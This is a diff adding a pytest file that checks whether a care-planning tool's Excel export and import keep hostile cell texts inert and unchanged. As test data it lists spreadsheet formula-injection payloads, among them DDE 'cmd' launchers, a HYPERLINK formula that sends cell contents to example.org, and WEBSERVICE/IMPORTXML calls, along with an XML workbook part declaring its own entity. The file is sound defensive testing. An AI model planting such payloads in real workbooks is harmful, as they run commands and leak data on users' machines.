@@ -1,0 +1,138 @@
+"""Texts that mean harm go out in a plan's workbook and come back: equal, and inert on the way."""
+
+from __future__ import annotations
+
+import zipfile
+from datetime import date
+from pathlib import Path
+
+import pytest
+
+from pqmodel.analysis.plan_fields import FIELDS
+from pqmodel.app.exporting import export_plan
+from pqmodel.app.plan_exchange import import_plan
+from pqmodel.app.plan_updating import update_workbook
+from pqmodel.app.setting_up import set_up_service
+from pqmodel.formats.excel.templates.archive import open_archive
+from pqmodel.formats.excel.text import seen
+from pqmodel.model.cycle import parse
+from pqmodel.model.plan import Plan
+from pqmodel.store.workspace import Workspace
+from tests.formats.excel.books import action
+from tests.formats.excel.editing import Editor
+from tests.formats.excel.office import needs_office, saved_by_office
+
+CYCLE, TODAY = parse("2026-Q4"), date(2026, 11, 21)
+LONG = 32_767
+HOSTILE = [
+    '=HYPERLINK("http://example.org/?"&A1,"Click me")', "=1+1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '=WEBSERVICE("http://example.org")',
+    '=IMPORTXML("http://example.org","//a")', "{=1+1}", "＝1+1", "＋1", "－1", "＠SUM(A1)", "'=1+1", "''quoted",
+    "\t=1+1", "a\tb", "\n=1+1", "two\nlines\nand three", "line\r\nends\rof all kinds", " leads with a space",
+    "ends with spaces   ", "\u00a0=1+1", "\u200b=1+1", "control \x00\x01\x07\x1f characters", "\ufeffmark", "broken \ufffd",
+    "_x0041_ _x000D_ _x005F_", "#REF!", "#N/A", "TRUE", "007", "1/2", "1E5", "12:30", "2027-01-02", "£5 & <b>not bold</b>]]>",
+    "‮right to left‬ مدير الرعاية עברית", "👩‍⚕️🏳️‍🌈🇬🇧 e\u0301", "z" * LONG, "🙂" * (LONG // 2), "=" * LONG, "y" * (LONG + 5_000),
+    "</t></is></c><c><f>1+1</f></c>", "{{service}} ${7*7} %00 \\u0041",
+]  # fmt: skip
+TEXTS = [name for name in FIELDS if name not in ("title", "target", "start", "due", "status", "steps")]
+
+
+@pytest.fixture
+def workspace(tmp_path: Path) -> Workspace:
+    made = set_up_service(tmp_path / "s", "=Rose & <House>", "Care home", [])
+    actions = tuple(
+        action(number, title=f"{text}!", statements=(), scores_then={}, steps=(text, "then stop"))
+        .model_copy(update=dict.fromkeys(TEXTS, text))
+        for number, text in enumerate(HOSTILE, 1)
+    )  # fmt: skip
+    made.keep_plan(Plan(actions=actions, last_number=len(actions)), made.plan()[1])
+    return made
+
+
+def no_formulas(path: Path) -> None:
+    with zipfile.ZipFile(path) as archive:
+        for name in archive.namelist():
+            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
+                assert b"<f>" not in archive.read(name)
+                assert b"<f " not in archive.read(name)
+
+
+def nothing_differs(workspace: Workspace, path: Path) -> None:
+    before = (workspace.root / "plan.yaml").read_bytes()
+    done = import_plan(workspace, path, CYCLE, TODAY)
+    assert (done.faults, done.merged.edits, done.merged.conflicts, done.merged.kept) == ((), (), (), ())
+    assert (done.merged.added, done.merged.deleted, done.stopped) == ((), (), False)
+    assert (workspace.root / "plan.yaml").read_bytes() == before
+
+
+def test_there_are_forty_of_them() -> None:
+    assert len(set(HOSTILE)) >= 40
+
+
+def test_they_come_back_equal_and_are_inert(workspace: Workspace, tmp_path: Path) -> None:
+    path = tmp_path / "plan.xlsx"
+    export_plan(workspace, CYCLE, path, TODAY)
+    no_formulas(path)
+    nothing_differs(workspace, path)
+
+
+@needs_office
+def test_libreoffice_in_between_changes_nothing(workspace: Workspace, tmp_path: Path) -> None:
+    export_plan(workspace, CYCLE, tmp_path / "plan.xlsx", TODAY)
+    saved = saved_by_office(tmp_path / "plan.xlsx", tmp_path)
+    no_formulas(saved)
+    nothing_differs(workspace, saved)
+
+
+def test_openpyxl_in_between_changes_nothing_that_it_does_not_change_itself(
+    workspace: Workspace, tmp_path: Path
+) -> None:
+    path = tmp_path / "plan.xlsx"
+    export_plan(workspace, CYCLE, path, TODAY)
+    with Editor(path):
+        pass
+    no_formulas(path)
+    nothing_differs(workspace, path)
+
+
+def test_they_are_written_into_somebody_s_own_workbook_just_as_safely(workspace: Workspace, tmp_path: Path) -> None:
+    path = tmp_path / "plan.xlsx"
+    plan, stamp = workspace.plan()
+    workspace.keep_plan(plan.model_copy(update={"actions": plan.actions[:3]}), stamp)
+    export_plan(workspace, CYCLE, path, TODAY)
+    changed, stamp = workspace.plan()
+    workspace.keep_plan(changed.model_copy(update={"actions": plan.actions[::-1]}), stamp)
+    update_workbook(workspace, path, CYCLE, TODAY)
+    no_formulas(path)
+    nothing_differs(workspace, path)
+
+
+@pytest.mark.parametrize("text", [text for text in HOSTILE if seen(text) == text and len(text) < LONG])
+def test_typed_into_the_workbook_they_are_taken_in_as_they_are(workspace: Workspace, tmp_path: Path, text: str) -> None:
+    path = tmp_path / "plan.xlsx"
+    plan, stamp = workspace.plan()
+    workspace.keep_plan(plan.model_copy(update={"actions": (action(1),)}), stamp)
+    export_plan(workspace, CYCLE, path, TODAY)
+    with Editor(path) as sheet:
+        cell = sheet.cell("A-001", "Progress")
+        cell.value = text.replace("_x", "_x005F_x")
+        cell.data_type = "s"
+    assert import_plan(workspace, path, CYCLE, TODAY).saved
+    assert workspace.plan()[0].actions[0].progress == text.rstrip()
+
+
+def test_a_workbook_that_brings_definitions_of_its_own_is_refused(workspace: Workspace, tmp_path: Path) -> None:
+    path = tmp_path / "plan.xlsx"
+    export_plan(workspace, CYCLE, path, TODAY)
+    with zipfile.ZipFile(path) as archive:
+        parts = {name: archive.read(name) for name in archive.namelist()}
+    bomb = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bbbb">]><worksheet><sheetData/></worksheet>'
+    parts["xl/worksheets/sheet2.xml"] = bomb
+    with zipfile.ZipFile(path, "w") as archive:
+        for name, data in parts.items():
+            archive.writestr(name, data)
+    from pqmodel.errors import PqmodelError
+
+    assert open_archive(path.read_bytes(), "plan.xlsx")
+    with pytest.raises(PqmodelError, match="cannot be used"):
+        import_plan(workspace, path, CYCLE, TODAY)
